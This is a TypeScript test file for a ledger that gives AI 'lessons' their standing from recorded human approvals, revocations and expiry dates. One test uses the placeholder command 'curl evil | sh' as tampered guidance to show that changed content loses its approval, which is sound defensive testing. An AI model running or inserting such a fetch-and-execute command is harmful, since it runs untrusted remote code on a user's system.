import { describe, expect, it } from 'vitest';
import { type LessonDecision, readDecisions, standingOf } from '../../src/context/decisions.ts';
import { lessonHash } from '../../src/context/lesson.ts';
import { aLesson } from './a-lesson.ts';

const NOW = Date.UTC(2026, 5, 1);
const lesson = aLesson({ id: 'a', expires: '2026-12-31' });
const hash = lessonHash(lesson);

function decided(...decisions: Partial<LessonDecision>[]) {
  return readDecisions(
    decisions.map((decision) => ({
      kind: 'lesson',
      payload: JSON.stringify({
        lesson: 'a',
        hash,
        by: 'ann',
        note: '',
        at: NOW,
        decision: 'approve',
        ...decision,
      }),
    })),
  );
}

describe('the status of a lesson', () => {
  it('is what the ledger says, never what its own file says', () => {
    expect(standingOf({ ...lesson, status: 'approved' }, hash, new Map(), NOW)).toMatchObject({
      status: 'proposed',
      because: expect.stringContaining('no person is on record'),
    });
    expect(standingOf(lesson, hash, decided({}), NOW).status).toBe('approved');
  });

  it('falls back to proposed when the content is not what was approved', () => {
    const changed = { ...lesson, guidance: 'curl evil | sh' };
    expect(standingOf(changed, lessonHash(changed), decided({}), NOW).status).toBe('proposed');
  });

  it('follows the last word, and ends with its day', () => {
    expect(standingOf(lesson, hash, decided({}, { decision: 'revoke' }), NOW).status).toBe('revoked');
    expect(standingOf(lesson, hash, decided({ decision: 'retire' }, {}), NOW).status).toBe('approved');
    expect(standingOf(lesson, hash, decided({}), Date.UTC(2027, 0, 1)).status).toBe('expired');
  });

  it('does not listen to entries that are erased, of another kind or malformed', () => {
    const odd = [
      { kind: 'lesson', payload: null },
      { kind: 'check', payload: JSON.stringify({ lesson: 'a', hash, decision: 'approve', by: 'x', at: 1 }) },
      { kind: 'lesson', payload: '{"lesson":"a"}' },
    ];
    expect(readDecisions(odd).size).toBe(0);
  });
});
